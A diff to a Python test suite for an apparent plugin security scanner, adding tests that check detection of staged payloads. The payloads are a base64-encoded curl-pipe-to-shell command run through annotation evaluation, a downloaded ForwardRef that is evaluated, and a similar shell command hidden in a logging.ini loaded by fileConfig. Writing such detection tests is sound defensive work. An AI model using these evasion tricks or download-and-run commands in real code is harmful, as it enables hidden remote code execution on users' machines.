@@ -26,7 +26,8 @@ from caplet import PluginHost
 from caplet._findings import Finding, Severity
 from caplet._sandbox._sandboxed import SandboxLauncher
 from caplet._scan._model import ScanMode
-from caplet._scan._scanner import scan_source
+from caplet._scan._scanner import scan_source, scan_tree
+from tests._scan.prefilterkit import found_in_a_package
 from tests.conftest import PluginFactory
 
 _HEAD = """
@@ -335,6 +336,89 @@ NEAR_MISSES = {
 @pytest.mark.parametrize("name", sorted(NEAR_MISSES))
 def test_what_the_source_writes_out_stays_clean(name: str) -> None:
     assert dynamic(plugin_findings(NEAR_MISSES[name])) == []
+
+
+# -- package mode: exec of a stage, as exec's argument is ----------------------------------
+
+_STAGE = "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly90LmV4YW1wbGUvcCB8IHNoJyk="
+
+STAGES = [
+    # a decoded stage stored as an annotation, evaluated by get_type_hints
+    (
+        f"""
+        import base64, typing
+        class Box:
+            pass
+        Box.__annotations__ = {{"x": base64.b64decode("{_STAGE}").decode()}}
+        typing.get_type_hints(Box)
+        """,
+        "CPL-THR-001",
+    ),
+    (
+        f"""
+        import base64, typing
+        class Box:
+            x: int
+        Box.__annotations__["x"] = base64.b64decode("{_STAGE}").decode()
+        typing.get_type_hints(Box, {{}}, {{}})
+        """,
+        "CPL-THR-001",
+    ),
+    # a downloaded forward reference, evaluated by its own _evaluate
+    (
+        """
+        import typing, urllib.request
+        text = urllib.request.urlopen("https://t.example/ref").read().decode()
+        typing.ForwardRef(text)._evaluate(globals(), {}, frozenset())
+        """,
+        "CPL-THR-002",
+    ),
+]
+
+
+@pytest.mark.parametrize(("source", "rule_id"), STAGES)
+def test_a_stage_an_annotation_reader_evaluates_is_run_in_a_package(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule_id: str
+) -> None:
+    text = textwrap.dedent(source)
+    findings = scan_source(text, "pkg/__init__.py", mode=ScanMode.PACKAGE)
+    assert rule_id in {f.rule_id for f in findings if f.severity is Severity.DANGER}
+    found_in_a_package(tmp_path, monkeypatch, text, rule_id)  # the prefilter keeps it
+
+
+_LOADS_INI = """\
+import logging.config
+import os
+
+logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "logging.ini"))
+"""
+
+
+def _package(root: Path, ini: str) -> Path:
+    (root / "logpkg").mkdir()
+    (root / "logpkg/__init__.py").write_text(_LOADS_INI, encoding="utf-8")
+    (root / "logpkg/logging.ini").write_text(ini, encoding="utf-8")
+    return root
+
+
+def test_the_python_of_an_ini_a_package_hands_fileconfig_is_scanned(tmp_path: Path) -> None:
+    payload = LOG_INI.replace(
+        "__import__('ctypes').sizeof(__import__('ctypes').c_int)",
+        "__import__('os').system('curl -s https://stage.example/i | sh')",
+    )
+    report = scan_tree(_package(tmp_path, payload), (), mode=ScanMode.PACKAGE)
+    [found] = [f for f in report.findings if f.severity is Severity.DANGER]
+    assert (found.rule_id, found.file) == ("CPL-THR-016", "logpkg/logging.ini")
+    assert "the package's code running logpkg/logging.ini (CPL-THR-015 inside)" in found.message
+
+
+def test_an_ordinary_ini_a_package_hands_fileconfig_stays_clean(tmp_path: Path) -> None:
+    ini = LOG_INI.replace(
+        "__import__('ctypes').sizeof(__import__('ctypes').c_int) and __import__('sys').stderr",
+        "sys.stderr",
+    )
+    report = scan_tree(_package(tmp_path, ini), (), mode=ScanMode.PACKAGE)
+    assert not [f for f in report.findings if f.severity is Severity.DANGER]
 
 
 # -- the gate: the probe's routes refused at enable --------------------------------------
